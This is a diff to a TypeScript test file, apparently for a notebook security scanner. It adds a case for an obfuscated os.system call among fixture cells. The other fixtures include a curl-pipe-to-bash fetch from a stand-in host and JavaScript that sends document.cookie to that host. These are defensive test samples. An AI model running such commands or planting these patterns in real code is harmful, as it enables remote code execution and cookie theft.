@@ -8,6 +8,7 @@ const code = (source: string | string[], html?: string): object => ({ cell_type:
 it.each([
   ['hidden text that is run', [code(['import base64\n', "exec(base64.b64decode('cGFzcw=='))"])], 'medium ASY-EXE-006'],
   ['a shell that is fed from afar', [code('!curl -s http://host.test/x.sh | bash')], 'medium ASY-EXE-006'],
+  ['a name put together', [code('import os\ngetattr(os, "sys" + "tem")("true")')], 'medium ASY-EXE-006'],
   ['a script that reads cookies', [code('%%javascript\nfetch("http://host.test/" + document.cookie)')], 'medium ASY-EXE-006'],
   ['an output that reads cookies', [code('1', '<script>new Image().src = "//host.test/" + document.cookie</script>')], 'medium ASY-EXE-007'],
 ])('reports %s', async (_, cells, alarm) => {
